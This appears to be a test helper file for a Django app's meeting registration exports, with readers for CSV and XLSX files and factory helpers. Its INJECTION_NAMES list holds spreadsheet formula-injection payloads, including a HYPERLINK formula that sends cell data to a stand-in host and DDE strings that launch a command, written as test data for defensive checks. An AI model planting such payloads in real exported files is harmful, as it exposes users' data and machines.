"""Helpers for the export tests: download a file and open it with a real reader (PDFs: netvaerk.tests.pdf)."""

from __future__ import annotations

import csv
import io

from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from meetings.tests.factories import MeetingFactory
from netvaerk.tests.factories import NetworkFactory

# Names a spreadsheet would run as formulas if they were written as typed.
INJECTION_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Klik her")',
    "+45 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTabulator Jensen",
    "\rVognretur Hansen",
]


def export_url(meeting, kind: str, fmt: str) -> str:
    return reverse("registration:staff_meeting_export", kwargs={"code": meeting.code, "kind": kind, "fmt": fmt})


def body(response) -> bytes:
    """The whole response body, also of a streaming response."""
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 byte order mark"
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def read_xlsx(data: bytes):
    """The first worksheet, opened with openpyxl (not read-only, so styles and widths are there)."""
    return load_workbook(io.BytesIO(data)).worksheets[0]


def xlsx_rows(ws) -> list[list]:
    return [list(row) for row in ws.iter_rows(values_only=True)]


def own_meeting(consultant, **kwargs):
    """A meeting of a network the consultant coordinates."""
    network = NetworkFactory(coordinator=consultant)
    return MeetingFactory(network=network, **kwargs)


def sensitive(**kwargs):
    """Registration fields with consent to store dietary and accessibility details."""
    return {"sensitive_consent_at": timezone.now(), **kwargs}
